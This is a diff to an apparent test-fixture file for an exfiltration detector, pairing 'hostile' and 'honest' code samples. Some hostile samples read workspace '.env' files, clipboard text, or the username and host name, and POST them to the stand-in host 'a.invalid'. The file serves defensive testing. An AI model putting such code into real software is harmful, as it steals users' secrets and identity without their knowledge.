@@ -57,6 +57,13 @@ HOSTILE: dict[str, dict[str, Sample]] = {
             "    requests.post('https://a.invalid', data=text)\n    time.sleep(3)\n",
             line=4,
         ),
+        "settings of whatever project is open in an editor": js(
+            "const vscode = require('vscode');\nexports.activate = async () => {\n"
+            "  for (const file of await vscode.workspace.findFiles('**/.env')) {\n"
+            "    const text = await vscode.workspace.fs.readFile(file);\n"
+            "    await fetch('https://a.invalid', { method: 'POST', body: text });\n  }\n};\n",
+            line=3,
+        ),
         "by a client that a framework gives": Sample(
             {
                 "app.py": "import os\nfrom dataclasses import dataclass\n\nfrom mail import Mail\n\n\n@dataclass\n"
@@ -68,6 +75,13 @@ HOSTILE: dict[str, dict[str, Sample]] = {
             },
             "block",
             ("app.py", 12),
+        ),
+    },
+    "inventory_sent": {
+        "who asks for a price, and from where": py(
+            "import getpass, platform, requests\nwho = {'user': getpass.getuser(), 'node': platform.node()}\n"
+            "requests.post('https://a.invalid', json={'code': 1, 'client': who})\n",
+            "review",
         ),
     },
 }
@@ -110,6 +124,11 @@ HONEST: dict[str, dict[str, dict[str, str | bytes]]] = {
             "app.py": "import requests, pyperclip, time\nwhile True:\n    text = pyperclip.paste()\n"
             "    requests.post('https://a.invalid', data=str(len(text)))\n    time.sleep(3)\n"
         },
+        "how many projects are open in an editor": {
+            "app.js": "const vscode = require('vscode');\nexports.activate = async () => {\n"
+            "  const files = await vscode.workspace.findFiles('**/.env');\n"
+            "  await fetch('https://a.invalid', { method: 'POST', body: String(files.length) });\n};\n",
+        },
         "a client that keeps what it is told": {
             "app.py": "import os\nfrom dataclasses import dataclass\n\nfrom mail import Mail\n\n\n@dataclass\n"
             "class Jobs:\n    mail: Mail\n\n    def run(self):\n"
@@ -117,6 +136,12 @@ HONEST: dict[str, dict[str, dict[str, str | bytes]]] = {
             "mail.py": "import httpx\n\n\nclass Mail:\n    def __init__(self, client: httpx.Client):\n"
             "        self.client = client\n\n    def send(self, text):\n"
             "        self.client.post('https://a.invalid', content='a')\n        return text\n",
+        },
+    },
+    "inventory_sent": {
+        "where an error happened": {
+            "app.py": "import platform, requests\nwho = {'system': platform.system(), 'node': platform.node()}\n"
+            "requests.post('https://a.invalid', json={'code': 1, 'client': who})\n"
         },
     },
 }
